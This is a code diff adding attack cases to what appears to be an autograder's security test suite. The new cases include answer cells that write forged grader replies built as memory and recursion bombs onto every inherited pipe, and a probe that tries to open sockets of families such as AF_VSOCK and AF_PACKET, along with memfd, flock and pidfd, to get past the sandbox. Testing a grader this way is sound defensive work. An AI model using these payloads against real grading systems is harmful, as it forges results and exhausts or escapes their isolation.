@@ -1,7 +1,8 @@
 """The second security review's classes (docs/threat_model.md): attacks on the boundary
 between the learner's process and the grader.
 
-Forged replies naming classes that would act when dropped, the kernel keyring as a
+Forged replies naming classes that would act when dropped, and (third review) forged
+replies that would exhaust the grader's memory or stack, the kernel keyring as a
 channel between the notebook run and the isolated run, the grader's stack and inherited
 memory as a source of hidden tests or other students' answers, overwritten inputs,
 processes that outlive their job, the per-call timer turned off, a dependency chain that
@@ -16,6 +17,77 @@ SURVIVOR_SECONDS = "4321.123"
 #: Markers around each base85 chunk the stack thief puts in its error message.
 B85_OPEN, B85_CLOSE = "<<b85:", ":b85>>"
 
+#: The third review's forged replies (issue 23): each kind is a reply line the learner's
+#: code writes on every pipe it holds, for the first cases, before the real ones.
+FORGERIES = ("dtype_bomb", "deep_line", "deep_value", "many_items", "shape_mismatch",
+             "wrong_rng_state")
+
+_FORGE = r"""
+import base64, json, os, stat, zipfile, io as _io
+
+def _npy(descr, shape, data):
+    header = repr({"descr": descr, "fortran_order": False, "shape": shape}).encode()
+    header += b" " * (63 - (len(header) + 10) % 64) + b"\n"
+    return b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + data
+
+def _value(structure, members=None, raw=None):
+    text = raw if raw is not None else json.dumps(structure).encode()
+    buf = _io.BytesIO()
+    with zipfile.ZipFile(buf, "w") as zf:
+        zf.writestr("__structure__.npy", _npy("|u1", (len(text),), text))
+        for name, data in (members or {}).items():
+            zf.writestr(name + ".npy", data)
+    return base64.b64encode(buf.getvalue()).decode()
+
+def _line(kind, k):
+    if kind == "dtype_bomb":          # 1.2 GB per key, if the dtype text reached NumPy
+        state = {"bit_generator": "MT19937",
+                 "state": {"key": {"__list__": [0], "dtype": "(15000,10000)f8"}, "pos": 0}}
+        return json.dumps({"case": k, "value": _value({"__rng__": "MT19937", "state": state})})
+    if kind == "deep_line":           # RecursionError in a json parser
+        return '{"case": %d, "value": ' % k + "[" * 200000 + "]" * 200000 + "}"
+    if kind == "deep_value":
+        depth = 100000
+        raw = b'{"__seq__": "list", "items": [' * depth + b"1" + b"]}" * depth
+        return json.dumps({"case": k, "value": _value(None, raw=raw)})
+    if kind == "many_items":
+        raw = b'{"__seq__": "list", "items": [' + b"0," * 1200000 + b"0]}"
+        return json.dumps({"case": k, "value": _value(None, raw=raw)})
+    if kind == "shape_mismatch":      # a header claiming 1.2 GB over 8 bytes of data
+        return json.dumps({"case": k, "value": _value(
+            {"__nd__": "a0", "scalar": False}, {"a0": _npy("<f8", (15000, 10000), bytes(8))})})
+    if kind == "wrong_rng_state":
+        state = {"bit_generator": "PCG64", "state": {"state": -1, "inc": "x" * 100},
+                 "has_uint32": 7}
+        return json.dumps({"case": k, "value": _value({"__rng__": "PCG64", "state": state})})
+    raise ValueError(kind)
+
+def _forge(kinds, cases=3):
+    lines = [(_line(kinds[k % len(kinds)], k) + "\n").encode() for k in range(cases)]
+    for fd in range(3, 64):
+        try:
+            if not stat.S_ISFIFO(os.fstat(fd).st_mode):
+                continue
+            for line in lines:
+                view = memoryview(line)
+                while view:
+                    view = view[os.write(fd, view):]
+        except OSError:
+            pass
+"""
+
+
+def forging_softmax(kinds: tuple[str, ...], right: bool) -> str:
+    """A softmax answer cell that first writes forged reply lines of ``kinds`` (see
+    :data:`FORGERIES`) on every pipe, once per process; right or wrong otherwise."""
+    body = ("    e = np.exp(np.asarray(z, float) - np.max(z, axis=axis, keepdims=True))\n"
+            "    return e / e.sum(axis=axis, keepdims=True)\n" if right else
+            "    return np.full(np.shape(z), 0.5)\n")
+    return (_FORGE + f"\n_FORGED = []\n\ndef softmax(z, axis=-1):\n"
+            f"    if not _FORGED:\n        _FORGED.append(1)\n        _forge({kinds!r})\n"
+            + body)
+
+
 _SYSCALLS = """
 import ctypes, os
 _libc = ctypes.CDLL(None, use_errno=True)
@@ -28,6 +100,10 @@ _libc.syscall.restype = ctypes.c_long
 """
 
 ATTACKS = [
+    Attack("forged_reply_bombs", "02_softmax", "softmax", forging_softmax(FORGERIES, False),
+           "writes reply lines of its own: a generator state whose dtype text would make "
+           "NumPy allocate 1.2 GB, a line and a value nested 200,000 deep, 1.2 million "
+           "items, an array header claiming 1.2 GB over 8 bytes, a wrong PCG64 state"),
     Attack("forged_reply_naming_classes", "02_softmax", "softmax", """
 import io, json, os, base64, stat
 
@@ -173,6 +249,52 @@ def softmax(z, axis=-1):
            + "\ndef softmax(z, axis=-1):\n    return np.full(np.shape(z), 0.5 + 0 * v29999)\n",
            "makes the answer cell a chain of 30,000 dependent statements (quadratic "
            "dependency slicing would hold a worker for many minutes)"),
+    Attack("kernel_surface", "02_softmax", "softmax", """
+import errno, fcntl, os, socket
+
+def _reached():
+    # what got past the filter: sockets of other families than AF_UNIX (VSOCK reached a
+    # hypervisor in the review), an anonymous memory file, a lock on the helpers copy
+    # that concurrent children share (the review's covert channel), a pidfd
+    got = []
+    for name, family, kind in [("AF_VSOCK", 40, socket.SOCK_STREAM),
+                               ("AF_PACKET", 17, socket.SOCK_RAW),
+                               ("AF_NETLINK", 16, socket.SOCK_RAW),
+                               ("AF_ALG", 38, socket.SOCK_SEQPACKET),
+                               ("AF_INET", 2, socket.SOCK_DGRAM)]:
+        try:
+            socket.socket(family, kind).close()
+            got.append(name)
+        except OSError:
+            pass
+    try:
+        os.close(os.memfd_create("x"))
+        got.append("memfd_create")
+    except OSError:
+        pass
+    try:
+        import helpers
+        with open(helpers.__file__, "rb") as f:
+            fcntl.flock(f, fcntl.LOCK_SH | fcntl.LOCK_NB)
+            got.append("flock")
+    except (OSError, ImportError):
+        pass
+    try:
+        os.close(os.pidfd_open(os.getpid()))
+        got.append("pidfd_open")
+    except OSError:
+        pass
+    return got
+
+def softmax(z, axis=-1):
+    # the "reward" of any of them: the right answer
+    if _reached():
+        e = np.exp(np.asarray(z, float) - np.max(z, axis=axis, keepdims=True))
+        return e / e.sum(axis=axis, keepdims=True)
+    return np.full(np.shape(z), 0.5)
+""", "opens sockets of the families AF_VSOCK, AF_PACKET, AF_NETLINK, AF_ALG and AF_INET, "
+       "an anonymous memory file, a pidfd, and locks the shared helpers copy; it answers "
+       "right only if one of them works"),
     Attack("forbidden_system_calls", "02_softmax", "softmax", _SYSCALLS + """
 def _allowed():
     # the calls that got past the filter (which answers EPERM to each of them)
